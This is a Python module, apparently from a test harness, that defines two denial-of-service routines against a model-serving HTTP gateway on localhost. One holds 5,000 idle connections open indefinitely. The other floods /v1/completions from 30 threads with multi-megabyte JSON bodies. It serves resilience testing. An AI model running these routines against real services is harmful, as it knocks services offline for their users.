"""Callers of a gateway who mean no good; each goes on until its process is killed."""

import contextlib
import resource
import selectors
import socket
import threading
import time
from collections.abc import Callable

from tools.attack.afar import connect

IDLE_CONNECTIONS, BODIES = 5000, 30
HOST = b"host: 127.0.0.1\r\n"
ASK = b"GET /health HTTP/1.1\r\n" + HOST + b"\r\n"
# The largest that is read with the shipped model, and the largest without regard for any model.
SIZES = (6_500_000, 16 << 20)


def idle_http_connections(address: str, number: int = IDLE_CONNECTIONS) -> None:
    """Connections that have asked once, and are kept; what is hung up comes back."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held = selectors.DefaultSelector()
    while True:
        for _ in range(number - len(held.get_map())):
            with contextlib.suppress(OSError):
                _keep(held, connect(address))
        for key, _ in held.select(timeout=0.1):
            _drop_if_closed(held, key.fileobj)  # type: ignore[arg-type]


def _keep(held: selectors.BaseSelector, connection: socket.socket) -> None:
    connection.setblocking(False)
    with contextlib.suppress(OSError):
        connection.send(ASK)
    held.register(connection, selectors.EVENT_READ)


def _drop_if_closed(held: selectors.BaseSelector, connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        if connection.recv(65536):
            return
    held.unregister(connection)
    connection.close()


def large_bodies(address: str) -> None:
    """Thirty at a time, each of millions of numbers."""
    bodies = [b'{"prompt":[' + b"5," * (size // 2 - 8) + b"5]}" for size in SIZES]

    def go_on(body: bytes) -> None:
        while True:
            with contextlib.suppress(OSError), connect(address) as connection:
                head = b"POST /v1/completions HTTP/1.1\r\n" + HOST
                head += b"content-type: application/json\r\n"
                connection.sendall(head + b"content-length: %d\r\n\r\n" % len(body))
                connection.sendall(body)
                connection.recv(65536)
            time.sleep(0.1)

    for number in range(BODIES):
        body = bodies[number % len(bodies)]
        threading.Thread(target=go_on, args=(body,), daemon=True).start()
    threading.Event().wait()


GATEWAY_ATTACKS: dict[str, Callable[..., None]] = {
    act.__name__: act for act in (idle_http_connections, large_bodies)
}
